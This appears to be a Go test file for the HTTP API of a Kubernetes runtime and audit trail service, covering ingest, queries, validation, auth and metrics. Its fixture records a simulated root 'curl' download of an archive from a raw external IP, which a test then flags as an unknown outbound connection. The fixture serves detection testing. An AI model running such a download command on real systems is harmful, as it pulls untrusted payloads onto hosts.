package http_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/kubetrail/kubetrail"
	"github.com/kubetrail/kubetrail/agentpb"
	"github.com/kubetrail/kubetrail/duckdb"
	kthttp "github.com/kubetrail/kubetrail/http"
	"github.com/kubetrail/kubetrail/ingest"
	"github.com/kubetrail/kubetrail/internal/sharedtest"
)

const token = "test-token-0123456789"

type env struct {
	url    string
	client *kthttp.Client
	store  *duckdb.Store
}

// start runs a real server on a real store in a temporary directory; opts
// complete the server before it listens.
func start(t *testing.T, opts ...func(*kthttp.Server)) *env {
	t.Helper()
	ctx := context.Background()
	store, err := duckdb.Open(ctx, filepath.Join(t.TempDir(), "trail.duckdb"))
	if err != nil {
		t.Fatal(err)
	}
	reg := prometheus.NewRegistry()
	p, err := ingest.New(ctx, store, reg)
	if err != nil {
		t.Fatal(err)
	}
	srv := &kthttp.Server{Store: store, Sessions: store, Pipeline: p, Token: token, Cluster: "test", Registry: reg}
	for _, o := range opts {
		o(srv)
	}
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve()
	t.Cleanup(func() {
		srv.Shutdown(context.Background())
		store.Close()
	})
	url := "http://" + addr.String()
	return &env{url: url, client: kthttp.NewClient(url, token), store: store}
}

// get requests path from the server, with the token when auth is set, and
// returns the status and the body.
func (e *env) get(t *testing.T, path string, auth bool) (int, []byte) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, e.url+path, nil)
	if auth {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, body
}

var now = time.Now().UTC().Truncate(time.Millisecond)

func runtimeBatch() *kubetrail.Batch {
	scope := kubetrail.Event{Cluster: "test", Node: "node-1", Namespace: "billing", WorkloadKind: "Deployment", WorkloadName: "invoice-api",
		PodName: "invoice-api-7d9f-abcde", PodUID: "u1", ContainerID: strings.Repeat("a", 64), ContainerName: "app",
		ImageRepository: "registry.example.com/billing/invoice-api", ImageTag: "1.8.2"}
	ev := func(seq uint64, cat kubetrail.Category, typ string) kubetrail.Event {
		e := scope
		e.Stream, e.Seq, e.Time, e.Category, e.Type, e.Result = "node-1.boot1", seq, now.Add(time.Duration(seq)*time.Millisecond), cat, typ, "SUCCESS"
		e.Process = kubetrail.Process{Name: "curl", ExePath: "/usr/bin/curl", Argv: []string{"curl", "-sSLo", "/tmp/x.tgz", "http://185.220.101.47/x.tgz"}, PID: 4242, PPID: 4200, ParentName: "bash", UID: 0, ExecID: "x1", ParentExecID: "x0"}
		return e
	}
	exec := ev(1, kubetrail.CategoryProcess, "execve")
	conn := ev(2, kubetrail.CategoryNetwork, "connect")
	conn.Network = kubetrail.Network{L4Proto: "tcp", Direction: "outbound", ClientIP: "10.244.1.7", ClientPort: 40112, ServerIP: "185.220.101.47", ServerPort: 80}
	east := ev(3, kubetrail.CategoryNetwork, "connect")
	east.Network = kubetrail.Network{L4Proto: "tcp", Direction: "outbound", ClientIP: "10.244.1.7", ClientPort: 40113, ServerIP: "10.96.0.20", ServerPort: 5432}
	file := ev(4, kubetrail.CategoryFile, "open")
	file.File = kubetrail.File{Path: "/tmp/x.tgz"}
	return &kubetrail.Batch{
		Stream: "node-1.boot1",
		Events: []kubetrail.Event{exec, conn, east, file},
		Inventory: []kubetrail.InventoryObject{
			{Time: now.Add(-time.Hour), Cluster: "test", Kind: kubetrail.ObjectService, Namespace: "payments", Name: "postgres", IPs: []string{"10.96.0.20"}},
			{Time: now.Add(-time.Hour), Cluster: "test", Kind: kubetrail.ObjectPod, Namespace: "billing", Name: "invoice-api-7d9f-abcde", IPs: []string{"10.244.1.7"}, WorkloadKind: "Deployment", WorkloadName: "invoice-api"},
		},
	}
}

func TestAgentBatchToQuery(t *testing.T) {
	e := start(t)
	ctx := context.Background()
	res, err := e.client.SendBatch(ctx, runtimeBatch())
	if err != nil {
		t.Fatal(err)
	}
	if res.Stored != 4 {
		t.Fatalf("stored %+v, want 4", res)
	}
	// A retried batch is acknowledged and stored once.
	res, err = e.client.SendBatch(ctx, runtimeBatch())
	if err != nil || res.Stored != 0 || res.Duplicates != 4 {
		t.Fatalf("retry: %+v %v", res, err)
	}

	// The seed question: outbound connections from billing to an unknown IP.
	page, err := e.client.Search(ctx, kthttp.Query{Filter: "k8s.ns.name = billing and net.direction = outbound and net.peer.kind = unknown", Since: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Events) != 1 || page.Events[0].Network.ServerIP != "185.220.101.47" {
		t.Fatalf("unknown-IP connections: %+v", page.Events)
	}
	// The east-west connection was named from the inventory.
	page, err = e.client.Search(ctx, kthttp.Query{Filter: "net.peer.kind = service", Since: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Events) != 1 || page.Events[0].Network.PeerName != "postgres" || page.Events[0].Network.PeerNamespace != "payments" {
		t.Fatalf("service peer: %+v", page.Events)
	}
	// One event by id, through the API.
	got, err := e.client.Event(ctx, "node-1.boot1/1")
	if err != nil {
		t.Fatal(err)
	}
	if got.Process.Cmdline() != "curl -sSLo /tmp/x.tgz http://185.220.101.47/x.tgz" {
		t.Fatalf("event by id: %+v", got)
	}
	// Scope counts, both groupings.
	scopes, err := e.client.Scopes(ctx, kthttp.Query{Since: time.Hour}, kubetrail.GroupByWorkload)
	if err != nil {
		t.Fatal(err)
	}
	if len(scopes) != 1 || scopes[0].Count != 4 || scopes[0].Children[0].Name != "billing" || scopes[0].Children[0].Children[0].Name != "invoice-api" {
		t.Fatalf("scopes: %+v", scopes)
	}
	host, err := e.client.Scopes(ctx, kthttp.Query{Since: time.Hour}, kubetrail.GroupByHost)
	if err != nil {
		t.Fatal(err)
	}
	if host[0].Children[0].Name != "node-1" || host[0].Children[0].Children[0].Name != "app" {
		t.Fatalf("host scopes: %+v", host[0].Children[0])
	}
	// Histogram.
	buckets, err := e.client.Histogram(ctx, kthttp.Query{From: now.Add(-time.Minute), To: now.Add(time.Minute)}, time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	var total int64
	for _, b := range buckets {
		total += b.Total
	}
	if len(buckets) != 2 || total != 4 || buckets[1].Counts[kubetrail.CategoryNetwork] != 2 {
		t.Fatalf("histogram: %+v", buckets)
	}
}

func TestAuditWebhookRealEventList(t *testing.T) {
	e := start(t)
	body := sharedtest.Read(t, "kube-apiserver-1.33-audit/webhook-raw-EventList-with-exec.json")
	res, err := e.client.SendAudit(context.Background(), "", body)
	if err != nil {
		t.Fatal(err)
	}
	if res.Stored == 0 {
		t.Fatalf("nothing stored: %+v", res)
	}
	// Sending it again stores nothing new.
	again, err := e.client.SendAudit(context.Background(), "", body)
	if err != nil || again.Stored != 0 || again.Updated != 0 {
		t.Fatalf("resend: %+v %v", again, err)
	}
	page, err := e.client.Search(context.Background(), kthttp.Query{Filter: "ka.target.subresource = exec", Limit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Events) == 0 {
		t.Fatal("no exec request found")
	}
	ids := map[string]bool{}
	for _, ev := range page.Events {
		if ids[ev.Audit.AuditID] {
			t.Fatalf("audit ID %s stored twice", ev.Audit.AuditID)
		}
		ids[ev.Audit.AuditID] = true
	}
}

func TestAuditStagesFromTwoBatchesMerge(t *testing.T) {
	e := start(t)
	ctx := context.Background()
	for _, f := range []string{"exec-success-101-RequestReceived.alice.logfile.json", "exec-success-101-ResponseComplete.alice.logfile.json"} {
		raw := sharedtest.Read(t, "kube-apiserver-1.33-audit/"+f)
		body := `{"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[` + string(raw) + `]}`
		if _, err := e.client.SendAudit(ctx, "", []byte(body)); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
	}
	page, err := e.client.Search(ctx, kthttp.Query{Filter: "ka.user.name = alice-admin and ka.target.subresource = exec"})
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Events) != 1 || page.Events[0].Audit.Stage != "ResponseComplete" || page.Events[0].Audit.ResponseCode != 101 {
		t.Fatalf("want one ResponseComplete record, got %+v", page.Events)
	}
}

// post sends a raw request and returns the status and decoded error body.
func post(t *testing.T, e *env, path, contentType string, header map[string]string, body []byte) (int, kthttp.ErrorResponse) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodPost, e.url+path, bytes.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("Content-Type", contentType)
	for k, v := range header {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var er kthttp.ErrorResponse
	data, _ := io.ReadAll(resp.Body)
	json.Unmarshal(data, &er)
	return resp.StatusCode, er
}

func TestBadInputIsRefusedWithReason(t *testing.T) {
	e := start(t)
	good, _ := agentpb.Encode(runtimeBatch())
	badSeq := runtimeBatch()
	badSeq.Events[2].Seq = 1
	badSeqBody, _ := agentpb.Encode(badSeq)
	badIP := runtimeBatch()
	badIP.Events[1].Network.ServerIP = "not-an-ip"
	badIPBody, _ := agentpb.Encode(badIP)
	huge := runtimeBatch()
	huge.Events[0].Process.Argv = []string{strings.Repeat("A", agentpb.MaxEventBytes)}
	hugeBody, _ := agentpb.Encode(huge)
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write(good)
	zw.Close()

	cases := []struct {
		name, path, ct string
		header         map[string]string
		body           []byte
		status         int
		message        string
	}{
		{"malformed JSON", "/api/v1/k8s-audit", "application/json", nil, []byte(`{"kind":"EventList","items":[{`), 400, ""},
		{"wrong apiVersion", "/api/v1/k8s-audit", "application/json", nil, []byte(`{"kind":"EventList","apiVersion":"audit.k8s.io/v2","items":[]}`), 400, "audit.k8s.io/v2"},
		{"unknown kind", "/api/v1/k8s-audit", "application/json", nil, []byte(`{"kind":"Pod","apiVersion":"v1"}`), 400, "Pod"},
		{"kind is a number", "/api/v1/k8s-audit", "application/json", nil, []byte(`{"kind":0}`), 400, ""},
		{"not protobuf", "/api/v1/events", agentpb.ContentType, nil, []byte("hello"), 400, "agent protocol"},
		{"wrong content type", "/api/v1/events", "application/json", nil, good, 400, "Content-Type"},
		{"sequence out of order", "/api/v1/events", agentpb.ContentType, nil, badSeqBody, 400, "events[2]"},
		{"bad IP", "/api/v1/events", agentpb.ContentType, nil, badIPBody, 400, "not-an-ip"},
		{"oversize event", "/api/v1/events", agentpb.ContentType, nil, hugeBody, 413, "events[0]"},
		{"bad gzip", "/api/v1/events", agentpb.ContentType, map[string]string{"Content-Encoding": "gzip"}, good, 400, "gzip"},
		{"unknown encoding", "/api/v1/events", agentpb.ContentType, map[string]string{"Content-Encoding": "br"}, good, 400, "br"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			status, er := post(t, e, c.path, c.ct, c.header, c.body)
			if status != c.status {
				t.Fatalf("status %d, want %d (%+v)", status, c.status, er)
			}
			msg := er.Error.Where + ": " + er.Error.Message
			if er.Error.Message == "" || !strings.Contains(msg, c.message) {
				t.Fatalf("reason %q does not mention %q", msg, c.message)
			}
		})
	}
	// None of it was stored, and the server still takes a good (gzip) batch.
	st, err := e.client.Stats(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for c, n := range st.Events {
		if n != 0 {
			t.Fatalf("%d %s events stored from bad input", n, c)
		}
	}
	if status, er := post(t, e, "/api/v1/events", agentpb.ContentType, map[string]string{"Content-Encoding": "gzip"}, gz.Bytes()); status != 200 {
		t.Fatalf("good gzip batch after bad ones: %d %+v", status, er)
	}
}

func TestBadFilterSaysWhere(t *testing.T) {
	e := start(t)
	_, err := e.client.Search(context.Background(), kthttp.Query{Filter: "proc.nam = bash"})
	var de *kubetrail.Error
	if !errorsAs(err, &de) || de.Code != kubetrail.EINVALID || !strings.Contains(de.Message, "did you mean proc.name") || !strings.Contains(de.Where, "column 1") {
		t.Fatalf("got %#v", err)
	}
	_, err = e.client.Search(context.Background(), kthttp.Query{Filter: "proc.name = bash and"})
	if !errorsAs(err, &de) || de.Code != kubetrail.EINVALID {
		t.Fatalf("got %#v", err)
	}
}

func TestAuthRequired(t *testing.T) {
	e := start(t)
	for _, path := range []string{"/api/v1/events", "/api/v1/fields", "/metrics", "/api/v1/openapi.json",
		"/api/v1/policy-events", "/api/v1/policy-events/policy%2F" + strings.Repeat("0", 32) + "/activity", "/api/v1/policies"} {
		resp, err := http.Get(e.url + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("%s without a token: %d", path, resp.StatusCode)
		}
	}
	bad := kthttp.NewClient(e.url, "wrong-token-0000000000")
	if _, err := bad.Fields(context.Background()); kubetrail.ErrorCode(err) != kubetrail.EUNAUTHORIZED {
		t.Errorf("wrong token: %v", err)
	}
	for _, path := range []string{"/healthz", "/readyz"} {
		resp, err := http.Get(e.url + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Errorf("%s: %d", path, resp.StatusCode)
		}
	}
}

func TestOpenAPIDocumentsEveryRoute(t *testing.T) {
	e := start(t)
	_, body := e.get(t, "/api/v1/openapi.json", true)
	var doc struct {
		OpenAPI string                    `json:"openapi"`
		Paths   map[string]map[string]any `json:"paths"`
	}
	if err := json.Unmarshal(body, &doc); err != nil {
		t.Fatal(err)
	}
	for _, route := range []string{"post /api/v1/k8s-audit", "post /api/v1/events", "get /api/v1/events", "get /api/v1/events/{id}",
		"get /api/v1/scopes", "get /api/v1/histogram", "get /api/v1/fields", "get /api/v1/stats", "get /metrics", "get /healthz", "get /readyz",
		"get /api/v1/sessions", "get /api/v1/sessions/{id}", "get /api/v1/policy-events", "get /api/v1/policy-events/{id}/activity",
		"get /api/v1/policies", "post /api/v1/policies/reload", "get /api/v1/values"} {
		method, path, _ := strings.Cut(route, " ")
		if _, ok := doc.Paths[path][method]; !ok {
			t.Errorf("openapi.json does not document %s", route)
		}
	}
}

func TestMetrics(t *testing.T) {
	e := start(t)
	e.client.SendBatch(context.Background(), runtimeBatch())
	_, body := e.get(t, "/metrics", true)
	for _, m := range []string{`kubetrail_ingest_events_total{source="agent"} 4`, "kubetrail_ingest_batch_seconds_bucket", "kubetrail_http_request_seconds"} {
		if !bytes.Contains(body, []byte(m)) {
			t.Errorf("metrics lack %s", m)
		}
	}
}

func errorsAs(err error, target **kubetrail.Error) bool {
	e, ok := err.(*kubetrail.Error)
	if ok {
		*target = e
	}
	return ok
}
